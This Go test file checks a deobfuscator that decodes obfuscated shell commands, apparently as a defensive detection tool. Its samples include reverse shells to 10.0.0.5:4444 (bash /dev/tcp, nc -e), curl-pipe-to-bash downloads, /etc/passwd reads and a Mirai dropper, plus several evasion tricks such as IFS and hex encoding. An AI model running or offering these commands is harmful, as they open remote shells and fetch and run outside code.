package deobfuscate

import "testing"

// runSamples checks Run's final text for each input.
func runSamples(t *testing.T, cases []transformCase) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := Run(tc.in)
			if r.Deobfuscated != tc.want {
				t.Errorf("got  %q\nwant %q\nsteps %+v", r.Deobfuscated, tc.want, r.Steps)
			}
			if r.Changed != tc.changed {
				t.Errorf("changed = %v, want %v", r.Changed, tc.changed)
			}
		})
	}
}

func TestShSamples(t *testing.T) {
	runSamples(t, []transformCase{
		{"mirai dropper", `cd /tmp || cd /var/run; echo ` + shMiraiBlob + ` | base64 -d | sh`,
			`cd /tmp || cd /var/run; echo ` + shMiraiText + ` | base64 -d | sh`, true},
		{"reverse shell with IFS", `bash${IFS}-i${IFS}>&${IFS}/dev/tcp/10.0.0.5/4444${IFS}0>&1`,
			`bash -i >& /dev/tcp/10.0.0.5/4444 0>&1`, true},
		{"nc with IFS$9", `nc$IFS$910.0.0.5$IFS$94444$IFS$9-e$IFS$9/bin/sh`, `nc 10.0.0.5 4444 -e /bin/sh`, true},
		{"variable splicing", `a=ba;b=sh;c=/dev/tcp/10.0.0.5/4444; $a$b -i >& $c 0>&1`,
			`a=ba;b=sh;c=/dev/tcp/10.0.0.5/4444; bash -i >& /dev/tcp/10.0.0.5/4444 0>&1`, true},
		{"split words", `w'h'o"am"i; c\at /et\c/pa\sswd`, `whoami; cat /etc/passwd`, true},
		{"bashfuscator noise", `${*,}c${@^}at /e''tc/pa"ss"wd`, `cat /etc/passwd`, true},
		{"printf and ANSI-C", `$(printf '\x63\x75\x72\x6c') -s http://10.0.0.5/x | $'\x62\x61\x73\x68'`,
			`curl -s http://10.0.0.5/x | bash`, true},
		{"rev into eval", `eval "$(echo 'dwssap/cte/ tac' | rev)"`, `eval "cat /etc/passwd"`, true},
		{"hex through xxd", `echo 636174202f6574632f706173737764 | xxd -r -p | sh`, `echo 'cat /etc/passwd' | sh`, true},
		{"gzip payload", `echo '` + shGzipRevSh + `' | base64 -d | gunzip | bash`,
			`echo 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1' | bash`, true},
		{"substring of a variable", `s=xxcurlyy;${s:2:4} -s http://10.0.0.5/x|b'a'sh`, `s=xxcurlyy;curl -s http://10.0.0.5/x|bash`, true},
		{"echo substitution", `$(echo who)$(echo ami)`, `whoami`, true},
	})
}

func TestShBenignUnchanged(t *testing.T) {
	var cases []transformCase
	for _, in := range []string{
		`grep -E '^[a-z]+$' file`,
		`echo "hello world"`,
		`echo 'a b'`,
		`find . -name '*.go'`,
		`awk '{print $1}' /var/log/syslog`,
		`ssh user@host 'ls -la'`,
		`git commit -m "fix: a^b"`,
		`grep ^root /etc/passwd`,
		`git diff HEAD^1`,
		`for f in *.txt; do echo "$f"; done`,
		`exec "$@"`,
		`date +%Y-%m-%d`,
		`find . -type f -exec chmod 644 {} \;`,
		`echo hello | base64`,
		`tar czf backup.tgz /srv/app && ls -la`,
		`docker ps --format '{{.Names}}'`,
		`sed -i 's/foo/bar/g' file.txt`,
		`cd "$HOME"/src && make`,
	} {
		cases = append(cases, transformCase{name: in, in: in, want: in})
	}
	runSamples(t, cases)
}

func BenchmarkRunShObfuscated(b *testing.B) {
	in := `a=ba;b=sh;c=/dev/tcp/10.0.0.5/4444; $a$b${IFS}-i >& $c 0>&1; w'h'o"am"i; $(printf '\x69\x64')`
	b.ReportAllocs()
	for b.Loop() {
		Run(in)
	}
}

func BenchmarkRunShBenign(b *testing.B) {
	in := `find /var/log -name '*.log' -mtime +7 -print0 | xargs -0 gzip -9 && echo "rotated $(date +%F)" >> /tmp/rotate.log; ls -la /var/log | grep -E '^d' | awk '{print $9}' | sort | uniq -c`
	b.ReportAllocs()
	for b.Loop() {
		Run(in)
	}
}
